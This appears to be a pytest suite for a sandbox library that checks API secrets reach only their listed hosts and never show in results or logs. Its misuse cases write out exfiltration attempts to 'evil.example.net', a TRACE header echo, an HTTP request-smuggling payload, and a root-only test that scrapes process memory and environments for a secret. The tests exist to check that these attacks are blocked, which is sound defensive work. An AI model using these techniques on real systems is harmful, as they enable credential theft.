"""Attacks on the secrets of a run, and on the question about names that are not listed."""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from typing import Any

import pytest

from stockade import NetworkUse, Result
from tests.support.internet import OTHER, PRIVATE, VALUE, WEB, Internet

pytestmark = pytest.mark.needs("native", "small-internet")

_NAMES = {
    "api.example.org": [[WEB]],
    "other.example.org": [[WEB]],
    "api.example.com": [[WEB]],  # its certificate is for other names
    "evil.example.net": [[OTHER]],
    "private.example.org": [[PRIVATE]],
}
_ALLOW = ["*.example.org:443", "*.example.org:80", "api.example.com:443"]
_SECRETS = {"API_KEY": ["api.example.org", "api.example.com"]}
_KIT = """
import http.client, os, urllib.request
GATEWAY = os.environ["STOCKADE_GATEWAY"]
KEY = os.environ["API_KEY"]
def ask(url, field="Authorization", value="Bearer " + KEY, data=None):
    try:
        return urllib.request.urlopen(urllib.request.Request(url, data, {field: value})).read()
    except OSError as error:
        return str(getattr(error, "reason", error))[:200]
"""


@pytest.fixture(scope="module")
def internet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Internet]:
    """Return a caller in a small internet."""
    net = Internet(tmp_path_factory.mktemp("internet"))
    net.ask("names", **_NAMES)
    yield net
    net.close()


def _run(internet: Internet, code: str, **options: Any) -> tuple[Result, NetworkUse, list[Any], dict[str, Any]]:
    network = {"allow": _ALLOW, **options.pop("network", {})}
    answer = internet.ask("run", code=code, network=network, **options)
    assert "error" not in answer, answer
    result = Result.from_dict(answer["result"])
    assert result.network is not None and result.network.error is None, result.network
    return result, result.network, answer["notes"], answer


def test_secret_reaches_its_host_and_nothing_else(internet: Internet) -> None:
    code = (
        _KIT + "print(len(ask(GATEWAY + '/api.example.org/bytes?count=3')))\n"
        "print(len(ask(GATEWAY + '/api.example.org:443/bytes?count=4', 'X-Api-Key', KEY, b'x' * 200000)))\n"
        "print(KEY, sorted(os.environ.values()))"
    )
    result, use, notes, answer = _run(internet, code, secrets=_SECRETS)
    found = [(note["key"], note["path"], note["body"]) for note in notes if "path" in note]
    assert found == [
        ("Bearer " + VALUE, "/bytes?count=3", 0),
        (VALUE, "/bytes?count=4", 200000),
    ], (result.stdout, use)
    assert [note["sni"] for note in notes if note.get("sni")] == ["api.example.org"] * 2
    assert result.stdout.startswith("3\n4\nstockade-secret-API_KEY-is-kept-outside")
    assert VALUE not in json.dumps(answer["result"])
    assert [(each.target, each.requests) for each in use.targets] == [("api.example.org:443", 2)]


def test_command_line_hands_over_a_variable(internet: Internet) -> None:
    code = _KIT + "print(len(ask(GATEWAY + '/api.example.org/bytes?count=5')))"
    how = ["--allow", "api.example.org:443", "--secret", "API_KEY=MINE@api.example.org", "--json", "-c", code]
    argv = [sys.executable, "-m", "stockade", "run", *how]
    answer = internet.ask("command", argv=argv, environment={"MINE": VALUE})
    assert json.loads(answer["stdout"])["stdout"] == "5\n" and VALUE not in answer["stdout"] + answer["stderr"], answer
    assert [note["key"] for note in answer["notes"] if "path" in note] == ["Bearer " + VALUE]


_LIVING = """
import json, os, stockade
os.environ["MINE"] = {value!r}
ask = '''
import os, sys, urllib.request as u
key = {{"X-Api-Key": os.environ["API_KEY"]}}
try: print(len(u.urlopen(u.Request(os.environ["STOCKADE_GATEWAY"] + sys.argv[1], headers=key)).read()))
except OSError as error: print(error)
try: print(u.urlopen("http://evil.example.net/").status)
except OSError as error: print(error.code)
'''
secret = stockade.Secret.from_env("MINE", hosts=["api.example.org"])
asked = []
def proxies():
    from pathlib import Path
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try: status = Path(f"/proc/{{pid}}/status").read_text()
        except OSError: continue
        warden = Path(f"/proc/{{os.getpid()}}/task/{{os.getpid()}}/children").read_text().split()
        if status.split("PPid:")[1].split()[0] in warden and "Seccomp:\\t2" in status: found.append(pid)
    return len(found)
network = stockade.Network(allow=["*.example.org:443"], ask=True)
made = dict(network=network, secrets={{"API_KEY": secret}}, on_ask=lambda name: asked.append(name) or True)
with stockade.Sandbox.create(**made) as sandbox:
    words = ["python3", "-c", ask]
    found = [sandbox.run_command([*words, path]).stdout for path in ("/api.example.org/bytes?count=3", "/other.example.org/")]
    cell = sandbox.interpreter().run("import os; print(os.environ['API_KEY'])").stdout
    during = proxies()
    shown = sandbox.run_command(["env"]).stdout + str(sandbox.plan) + repr(sandbox.__dict__)
texts = json.dumps(sandbox.result.to_dict()) + shown
print(json.dumps([found, cell, asked, sandbox.result.network.requests, sandbox.result.network.refused, {value!r} in texts, during, proxies()]))
for wrong in ({{"network": "none"}}, {{"network": stockade.Network(allow=["example.com:443"])}}):
    try:
        stockade.Sandbox.create(secrets={{"API_KEY": secret}}, **wrong)
    except stockade.JobError as error:
        print(str(error)[:50])
"""


def test_sandbox_that_lives_keeps_secrets_and_asks(internet: Internet) -> None:
    answer = internet.ask("command", argv=[sys.executable, "-c", _LIVING.format(value=VALUE)])
    first, *refused = answer["stdout"].splitlines() or [answer["stderr"]]
    found, cell, asked, *counts = json.loads(first)
    assert found[0] == "3\n200\n", answer
    assert (
        found[1].startswith("HTTP Error 403: stockade: other.example.org:443 is not a host of a secret")
        and "200" in found[1]
    )
    assert cell == "stockade-secret-API_KEY-is-kept-outside\n"
    assert asked == ["evil.example.net:80"]
    assert counts == [4, 1, False, 1, 0]  # one proxy, which ends with the sandbox
    assert [note["key"] for note in answer["notes"] if note.get("path", "").startswith("/bytes")] == [VALUE]
    assert refused == [
        "secrets: a bounded way out is needed: --allow api.",
        "secrets: API_KEY is for api.example.org:443, which",
    ]


_BATCH = """
import json, os, stockade
os.environ["MINE"] = {value!r}
source = "import os, urllib.request as u; request = u.Request(os.environ['STOCKADE_GATEWAY'] + '/api.example.org/bytes?count=3')\\n"
source += "request.add_header('X-Api-Key', os.environ['API_KEY']); print(len(u.urlopen(request).read()))"
answer = "import os\\ndef key(): return os.environ['API_KEY']"
placeholder = "stockade-secret-API_KEY-is-kept-outside"
programs = [
    {{"id": "a", "source": source, "language": "python", "expected": "3\\n"}},
    {{"id": "b", "answer": answer, "functions": ["key"], "test": f"import os\\nassert key() == {{placeholder!r}} and 'API_KEY' not in os.environ"}},
]
secrets = {{"API_KEY": stockade.Secret.from_env("MINE", hosts=["api.example.org"])}}
network = stockade.Network(allow=["api.example.org:443"])
verdicts = list(stockade.evaluate(programs, policy=stockade.Policy(network=network), secrets=secrets))
print([str(each.verdict) for each in verdicts], {value!r} in json.dumps([each.as_json() for each in verdicts]))
try: stockade.evaluate(programs, secrets=secrets)
except stockade.JobError as error: print(str(error)[:35])
with open("programs.jsonl", "w") as file: print(json.dumps(programs[0]), file=file)
"""


def test_programs_of_a_batch_use_secrets(internet: Internet) -> None:
    answer = internet.ask("command", argv=[sys.executable, "-c", _BATCH.format(value=VALUE)])
    assert answer["stdout"].splitlines() == ["['passed', 'passed'] False", "secrets: a bounded way out is neede"], (
        answer
    )
    assert [note["key"] for note in answer["notes"] if "path" in note] == [VALUE]
    how = ["--allow", "api.example.org:443", "--secret", "API_KEY=MINE@api.example.org", "--overwrite"]
    argv = [sys.executable, "-m", "stockade", "eval", "programs.jsonl", "-o", "verdicts.jsonl", *how]
    answer = internet.ask("command", argv=argv, environment={"MINE": VALUE})
    assert VALUE not in answer["stdout"] + answer["stderr"] + (internet.folder / "verdicts.jsonl").read_text()
    assert answer["status"] == 0 and [note["key"] for note in answer["notes"] if "path" in note] == [VALUE], answer


_WRITTEN = """
import logging, os, pickle, stockade, sys, traceback
logging.basicConfig(level=logging.DEBUG, filename="log")
os.environ["MINE"] = {value!r}
code = '''
import os, urllib.error, urllib.request as u
for url in ("/api.example.org/bytes?count=1", "/other.example.org/", "/api.example.com/"):
    request = u.Request(os.environ["STOCKADE_GATEWAY"] + url, headers={{"X-Api-Key": os.environ["API_KEY"]}})
    try: print(u.urlopen(request).status)
    except urllib.error.HTTPError as error: print(error, error.read(), error.headers)
raise ValueError(os.environ["API_KEY"])
'''
secrets = {{"API_KEY": stockade.Secret.from_env("MINE", hosts=["api.example.org", "api.example.com"])}}
network = stockade.Network(allow=["*.example.org:443", "api.example.com:443"])
result = stockade.run(code, network=network, secrets=secrets)
texts = [repr(result), result.explain(), str(result.to_dict()), str(pickle.dumps(result)), repr(secrets), str(result.enforcement)]
try:
    pickle.dumps(secrets)
except TypeError:
    texts.append(traceback.format_exc())
os.environ["MINE"] += " and a blank"
try:
    stockade.run(code, network=network, secrets=secrets)
except stockade.JobError:
    texts.append(traceback.format_exc())
logging.shutdown()
print(result.network.requests, result.network.refused, len(texts), {value!r} in "".join(texts) + open("log").read())
"""


def test_results_errors_and_logs_hold_no_value(internet: Internet) -> None:
    answer = internet.ask("command", argv=[sys.executable, "-c", _WRITTEN.format(value=VALUE)])
    assert answer["stdout"] == "3 2 8 False\n", answer
    assert VALUE not in answer["stderr"]


_MISUSES = {
    "another_host_by_the_gateway": (
        "ask(GATEWAY + '/other.example.org/')",
        "other.example.org:443 is not a host of a secret",
    ),
    "another_host_by_the_proxy": (
        "ask('http://other.example.org/')",
        "the secret API_KEY goes only to api.example.org:443",
    ),
    "its_host_without_tls": ("ask('http://api.example.org/')", "only by the gateway"),
    "its_host_at_another_port": ("ask(GATEWAY + '/api.example.org:80/')", "is not a host of a secret"),
    "server_without_its_certificate": (
        "ask(GATEWAY + '/api.example.com/')",
        "api.example.com:443 has no TLS that proves its name: Hostname mismatch",
    ),
    "unlisted_host": ("ask(GATEWAY + '/evil.example.net/')", "evil.example.net:443 is not a host of a secret"),
    "inside_a_longer_value": ("ask(GATEWAY + '/api.example.org/', value=KEY + 'x')", "whole value"),
    "behind_a_strange_scheme": ("ask(GATEWAY + '/api.example.org/', value='a,b ' + KEY)", "whole value"),
    "header_that_servers_repeat": (
        "ask(GATEWAY + '/api.example.org/', 'X-Request-Id', KEY)",
        "goes into one of these header fields",
    ),
    "method_that_repeats_the_head": (
        "raw = http.client.HTTPConnection('127.0.0.1', 3128)\n"
        "raw.request('TRACE', '/api.example.org/', headers={'X-Api-Key': KEY}); raw.getresponse()",
        "TRACE makes a server repeat the head",
    ),
    "length_of_the_body": (
        "raw = http.client.HTTPConnection('127.0.0.1', 3128)\n"
        "raw.putrequest('POST', '/api.example.org/'); raw.putheader('Content-Length', KEY); raw.endheaders(); raw.getresponse()",
        "Content-Length must be one number",
    ),
    "smuggled_request": (
        "connection = http.client.HTTPConnection('127.0.0.1', 3128); connection.send(("
        "'POST /api.example.org/first HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\nContent-Length: 60\\r\\nX-Api-Key: ' + KEY"
        " + '\\r\\n\\r\\nGET /second HTTP/1.1\\r\\n\\r\\n').encode()); connection.sock.recv(1000)",
        "Content-Length must be one number",
    ),
}


@pytest.fixture(scope="module")
def misused(internet: Internet) -> tuple[Result, NetworkUse, list[Any]]:
    """Return the result of a guest that misuses its placeholder in each way."""
    code = _KIT + "\n".join(each for each, _ in _MISUSES.values())
    result, use, notes, _ = _run(internet, code, secrets=_SECRETS)
    assert result.ok, (result.summary(), result.stderr)
    return result, use, notes


@pytest.mark.parametrize("name", _MISUSES)
def test_misused_placeholder_is_refused(misused: tuple[Result, NetworkUse, list[Any]], name: str) -> None:
    _, use, notes = misused
    assert [each for each in use.refusals if _MISUSES[name][1] in each.reason], use.refusals
    assert not [note for note in notes if VALUE in str(note) or "path" in note]


def test_placeholder_in_url_body_or_other_run_is_not_filled(internet: Internet) -> None:
    code = (
        _KIT + "print(ask(GATEWAY + '/api.example.org/' + KEY, 'X-Other', 'x', KEY.encode()).count(b'is-kept-outside'))"
    )
    result, _, notes, _ = _run(internet, code, secrets=_SECRETS)
    assert result.stdout == "1\n" and VALUE not in str(notes), (result.stdout, result.stderr)
    without = "import urllib.request as u\ntry: u.urlopen('http://127.0.0.1:3128/api.example.org/')\nexcept OSError as e: print(e)"
    result, _, notes, _ = _run(internet, without)
    assert "400" in result.stdout and not notes


_LOOK_FOR_VALUE = """
import os, sys, time, stockade
from pathlib import Path
os.environ["REAL"] = "sk-" + "value-to-look-for"
code = '''
import os, time, urllib.request
request = urllib.request.Request(os.environ["STOCKADE_GATEWAY"] + "/api.example.org/bytes?count=1", headers={"X-Api-Key": os.environ["API_KEY"]})
print(len(urllib.request.urlopen(request).read()), flush=True)
time.sleep(30)
'''
secret = stockade.Secret.from_env("REAL", hosts=["api.example.org"])
network = stockade.Network(allow=["api.example.org:443"])
stream = stockade.Runner(network=network, backend="native").stream(code, secrets={"API_KEY": secret})
for event in stream:
    if isinstance(event, stockade.Output):
        break
del os.environ["REAL"]
def below(pid):
    found = [pid]
    try:
        for task in Path(f"/proc/{pid}/task").iterdir():
            for each in (task / "children").read_text().split():
                found += below(int(each))
    except OSError:
        pass  # it has ended meanwhile
    return found
def memory(pid):
    maps = [line.split() for line in Path(f"/proc/{pid}/maps").read_text().splitlines()]
    with open(f"/proc/{pid}/mem", "rb", 0) as file:
        for words in maps:
            if "w" in words[1]:
                begin, end = (int(each, 16) for each in words[0].split("-"))
                try:
                    file.seek(begin)
                    yield file.read(end - begin)
                except (OSError, OverflowError):
                    pass
def parent(pid):
    return int(Path(f"/proc/{pid}/status").read_text().split("PPid:")[1].split()[0])
wanted = ("sk-" + "value-to-look-for").encode()
warden, *others = below(os.getpid())[1:]
holders = []
for pid in (warden, *others):
    try:
        if wanted in Path(f"/proc/{pid}/environ").read_bytes() + Path(f"/proc/{pid}/cmdline").read_bytes():
            holders.append("environment or arguments")
        if any(wanted in piece for piece in memory(pid)):
            holders.append(parent(pid) == warden)
    except OSError:
        pass  # it has ended meanwhile
stream.cancel()
print(event.data, holders)
"""


@pytest.mark.needs("root")
def test_value_is_in_the_memory_of_the_proxy_alone(internet: Internet) -> None:
    """Only root may look: the warden's child that is the proxy has the value, and neither the warden nor the guest."""
    answer = internet.ask("command", argv=[sys.executable, "-c", _LOOK_FOR_VALUE])
    assert answer["stdout"] == "b'1\\n' [True]\n", answer


def test_unlisted_name_is_asked_about_once(internet: Internet) -> None:
    code = """
import urllib.request as u
for name in ("other.example.net", "evil.example.net", "evil.example.net", "10.0.0.5"):
    try: print(u.urlopen(f"http://{name}/").status)
    except OSError as error: print(str(error)[:14])
"""
    answer = internet.ask(
        "run", code=code, network={"allow": _ALLOW, "ask": True}, yes=["evil.example.net:80", "10.0.0.5:80"]
    )
    result = Result.from_dict(answer["result"])
    assert result.stdout == "HTTP Error 403\n200\n200\nHTTP Error 403\n", (result.stdout, result.network)
    assert answer["asked"] == ["other.example.net:80", "evil.example.net:80"]


def test_allowed_answer_opens_no_private_address(internet: Internet) -> None:
    code = (
        "import urllib.request as u\ntry: u.urlopen('http://private.example.org:8080/')\nexcept OSError as e: print(e)"
    )
    _, use, notes, answer = _run(internet, code, network={"ask": True}, yes=["private.example.org:8080"])
    assert answer["asked"] == ["private.example.org:8080"] and not [note for note in notes if "path" in note]
    assert "10.0.0.5, a private address" in use.refusals[0].reason


_SLOW_ANSWER = """
import stockade, threading, time
gate = threading.Event()
def on_ask(target):
    if target.startswith("other"): raise ValueError("no idea")
    gate.wait(30)
    return True
code = "import urllib.request as u\\nfor name in ('other.example.net', 'evil.example.net', 'evil.example.net'):\\n    try: print(u.urlopen(f'http://{name}/').status)\\n    except OSError as e: print(e.code)"
begin = time.monotonic()
result = stockade.run(code, network=stockade.Network(ask=True, ask_time=0.3), on_ask=on_ask)
gate.set()
print(result.stdout.split(), time.monotonic() - begin < 20, threading.active_count() <= 2)
"""


def test_answer_that_comes_too_late_or_fails_is_no(internet: Internet) -> None:
    answer = internet.ask("command", argv=[sys.executable, "-c", _SLOW_ANSWER])
    assert answer["stdout"] == "['403', '403', '403'] True True\n", answer
